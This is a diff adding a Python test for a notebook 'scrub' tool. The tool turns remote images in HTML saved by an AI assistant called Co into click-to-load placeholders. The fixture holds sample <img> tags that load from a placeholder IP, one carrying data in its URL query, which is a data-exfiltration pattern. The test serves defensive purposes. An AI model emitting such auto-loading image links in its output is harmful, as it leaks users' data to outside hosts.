@@ -67,3 +67,36 @@ def test_scrub_says_what_it_cannot_read_and_goes_on(tmp_path: Path) -> None:
     assert broken.read_text() == "{not json"
     assert "Traceback" not in done.stderr
     assert json.loads(good.read_text())["cells"][0]["outputs"][0]["data"]["text/html"]
+
+
+def test_scrub_turns_the_live_images_co_saved_as_html_into_placeholders(tmp_path: Path) -> None:
+    """The HTML today's Co saved before click-to-load: its remote images load on opening."""
+    saved = (
+        '<div class="co-markdown"><p>Status <img src="http://198.51.100.7/c?d=s%20k" alt="s">'
+        '</p>\n<table><tbody><tr><td><img src="//198.51.100.7/t"></td></tr></tbody></table>'
+        '<p><img src="plot.png" alt="local"></p></div>'
+    )
+    nb = nbformat.v4.new_notebook()
+    co = nbformat.v4.new_output(
+        "display_data",
+        data={"text/html": saved, "text/plain": "Status"},
+        metadata={"co": {"request": "r1"}},
+    )
+    other = nbformat.v4.new_output("display_data", data={"text/html": saved})
+    nb.cells = [nbformat.v4.new_code_cell("ask", outputs=[co, other])]
+    path = tmp_path / "today.ipynb"
+    nbformat.write(nb, path)
+
+    done = co_kernel("scrub", str(path))
+    assert done.returncode == 0, done.stderr
+    assert done.stdout == f"{path}: 1 output(s) re-rendered as safe HTML\n"
+    mine, theirs = nbformat.read(path, as_version=4).cells[0].outputs
+    html = mine.data["text/html"]
+    assert 'src="http' not in html and 'src="//' not in html
+    assert html.count('class="co-remote-image"') == 2
+    assert 'href="http://198.51.100.7/c?d=s%20k"' in html
+    assert "http://198.51.100.7/c?d=s k</code>" in html
+    assert '<img src="plot.png" alt="local">' in html
+    assert mine.data["text/plain"] == "Status"
+    assert theirs.data["text/html"] == saved, "another kernel's output is not Co's"
+    assert co_kernel("scrub", str(path)).stdout == f"{path}: nothing to change\n"
